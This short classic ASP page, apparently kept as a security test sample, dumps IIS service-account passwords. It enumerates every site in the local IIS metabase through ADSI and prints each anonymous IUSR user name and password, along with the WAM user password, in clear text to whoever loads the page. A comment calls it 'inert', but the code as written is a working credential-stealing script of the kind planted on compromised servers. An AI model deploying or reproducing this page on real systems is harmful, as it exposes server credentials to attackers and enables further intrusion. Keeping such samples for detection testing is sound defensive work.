<%
' inert test sample: the stored IUSR/IWAM passwords of every IIS site, read through ADSI
Dim w3, site, vroot
Set w3 = GetObject("IIS://localhost/W3SVC")
For Each site In w3
    If site.Class = "IIsWebServer" Then
        Set vroot = GetObject("IIS://localhost/W3SVC/" & site.Name & "/ROOT")
        Response.Write site.ServerComment & " : " & vroot.AnonymousUserName & " / " & vroot.AnonymousUserPass
        Response.Write " : " & vroot.Get("WAMUserPass") & "<br>"
    End If
Next
%>
